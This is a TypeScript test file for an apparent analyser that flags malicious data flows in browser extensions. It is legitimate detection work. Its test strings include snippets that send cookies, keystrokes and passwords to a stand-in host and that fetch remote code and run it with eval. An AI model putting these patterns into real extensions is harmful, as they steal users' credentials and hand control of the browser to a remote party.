import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { factsOf } from '../../../../testing/facts-of.ts';

function flows(source: string): string[] {
  return factsOf(source).flows.map(
    ({ source: from, sink, direction }) => `${from.kind} > ${sink.kind} (${direction})`,
  );
}

describe('flows', () => {
  const cases: readonly [string, string][] = [
    [
      "class A { go() { chrome.cookies.getAll({}, (c) => this.send(c)) } send(c) { fetch('https://a.dev', { body: c }) } }",
      'cookies > network (theft)',
    ],
    [
      "chrome.cookies.getAll({}, (c) => fetch('https://a.dev', { body: JSON.stringify(c) }))",
      'cookies > network (theft)',
    ],
    [
      "chrome.cookies.getAll({}).then((c) => send({ c })); function send(d) { navigator.sendBeacon('https://a.dev', btoa(d)) }",
      'cookies > network (theft)',
    ],
    [
      "let buffer = ''; document.addEventListener('keydown', (e) => { buffer += e.key }); setInterval(() => fetch('https://a.dev/?k=' + buffer), 9)",
      'key-input > network (theft)',
    ],
    [
      "const keys = []; document.onkeyup = (e) => keys.push(e.key); fetch('https://a.dev', { body: keys.join() })",
      'key-input > network (theft)',
    ],
    [
      "form.addEventListener('submit', () => { const p = document.querySelector('[type=password]').value; new Image().src = `https://a.dev/${p}` })",
      'form-input > network (theft)',
    ],
    [
      "fetch('https://a.dev').then((r) => r.text()).then((code) => eval(code))",
      'network-response > code-execution (remote-control)',
    ],
    [
      "async function f() { const r = await fetch('https://a.dev'); const { code } = await r.json(); new Function(code)() }",
      'network-response > code-execution (remote-control)',
    ],
    [
      'const x = new XMLHttpRequest(); x.onload = () => { box.innerHTML = x.responseText }',
      'network-response > dom-html (remote-control)',
    ],
    [
      "const load = () => new Promise((done) => $.get('https://a.dev', (d) => done(d))); load().then((d) => eval(d))",
      'network-response > code-execution (remote-control)',
    ],
    ...[
      "fetch('https://a.dev').then((r) => r.text()).then(eval)",
      "fetch(new Request('https://a.dev')).then((r) => r.text()).then(globalThis.eval)",
      "fetch(new URL('/a', 'https://a.dev')).then((r) => r.text()).then((t) => Reflect.apply(eval, null, [t]))",
      "fetch('https://a.dev').then((r) => r.text()).then((t) => (() => {}).constructor(t)())",
    ].map((source): [string, string] => [
      source,
      'network-response > code-execution (remote-control)',
    ]),
    [
      "window.addEventListener('message', (e) => chrome.storage.local.set(e.data))",
      'page-message > extension-storage (exposure)',
    ],
    [
      'chrome.runtime.onMessageExternal.addListener((m, s, reply) => { chrome.history.search({}, (h) => reply(h)) })',
      'history > external-response (exposure)',
    ],
    [
      'chrome.runtime.onConnectExternal.addListener((p) => { p.onMessage.addListener((m) => chrome.downloads.download({ url: m.url })) })',
      'external-message > download (exposure)',
    ],
  ];
  for (const [source, expected] of cases) {
    it(`finds ${expected} in ${source}`, () =>
      assert.ok(flows(source).includes(expected), flows(source).join()));
  }

  const own: readonly [string, string][] = [
    ['a relative address', "fetch('hello.wasm').then((r) => WebAssembly.instantiate(r, {}))"],
    ['getURL', "const u = chrome.runtime.getURL('a.wasm'); WebAssembly.compileStreaming(fetch(u))"],
    [
      'an XMLHttpRequest',
      "const x = new XMLHttpRequest(); x.open('GET', '/a.js'); x.onload = () => eval(x.response)",
    ],
    [
      'the handler of an XMLHttpRequest',
      "const x = new XMLHttpRequest(); x.open('GET', chrome.runtime.getURL('a.js')); x.onload = function () { eval(this.responseText) }",
    ],
    [
      'an XMLHttpRequest that is kept when it is opened',
      "let x; (x = new XMLHttpRequest()).open('GET', chrome.runtime.getURL('/a-'.concat(v, '.js'))); x.onload = () => eval(x.responseText)",
    ],
    ['jQuery', "$.get('/a.js', (code) => eval(code))"],
    [
      'the glue of wasm-bindgen',
      "async function init(input) { if (!input) input = new URL('a.wasm', import.meta.url); if (typeof input === 'string') input = fetch(input); await WebAssembly.instantiateStreaming(await input, {}) }",
    ],
  ];
  for (const [what, source] of own) {
    it(`knows a file of the package by ${what}`, () =>
      assert.deepEqual(flows(source), ['bundled-file > code-execution (remote-control)']));
  }

  it('takes an answer for the network’s when one of its addresses is not known', () => {
    for (const source of [
      "const x = new XMLHttpRequest(); x.open('GET', '/a.js'); x.open('GET', u); x.onload = () => eval(x.response)",
      "let u = 'a.js'; u = decide(); fetch(u).then((r) => r.text()).then((t) => eval(t))",
      "function go(u) { fetch(u).then((r) => r.text()).then((t) => eval(t)) } go('a.js'); go('https://a.dev')",
      "fetch(new URL('a.js', base())).then((r) => r.text()).then((t) => eval(t))",
    ])
      assert.deepEqual(
        flows(source),
        ['network-response > code-execution (remote-control)'],
        source,
      );
  });

  it('survive a flood of other facts', () => {
    const flood = 'chrome.tabs.query({});'.repeat(7_000);
    const steal = "chrome.cookies.getAll({}, (c) => fetch('https://a.dev', { body: c }))";
    assert.ok(flows(flood + steal).includes('cookies > network (theft)'));
  });

  it('finds none where the data does not arrive', () => {
    for (const source of [
      "chrome.cookies.getAll({}, (c) => show(c)); fetch('https://a.dev', { body: other })",
      "chrome.tabs.query({}, (t) => chrome.tabs.update(t[0].id, { url: 'https://a.dev' }))",
      "fetch('https://a.dev').then((r) => { if (r.ok) eval('1') })",
      "const data = { a: document.cookie, b: 1 }; fetch('https://a.dev', { body: data.b })",
    ]) {
      assert.deepEqual(flows(source), [], source);
    }
  });

  it('carry steps from source to sink and the receiving host', () => {
    const [flow] = factsOf(
      "const c = document.cookie;\nconst d = c;\nfetch('https://in.a.dev/', { body: d });",
    ).flows;
    assert.equal(flow?.host, 'in.a.dev');
    assert.equal(flow.confidence, 'high');
    assert.deepEqual(
      flow.steps.map(({ line }) => line),
      [1, 1, 2, 3],
    );
  });

  it('end on data that goes in circles', () => {
    assert.deepEqual(
      flows('let a = b; let b = a; function f(x) { return f(x) } fetch(f(a) + b)'),
      [],
    );
  });
});

describe('an address that is asked for as it is', () => {
  const ask = (request: string): unknown => {
    const source = `chrome.tabs.onUpdated.addListener((id, change, tab) => { ${request} })`;
    return factsOf(source).flows.find(({ sink }) => sink.kind === 'network')?.confidence;
  };

  it('tells a stranger nothing, or little', () => {
    assert.equal(ask('fetch(tab.url)'), 'low');
    assert.equal(ask("fetch('https://a.dev/?u=' + tab.url)"), 'high');
    assert.equal(ask('fetch(server, { body: tab.url })'), 'high');
  });
});
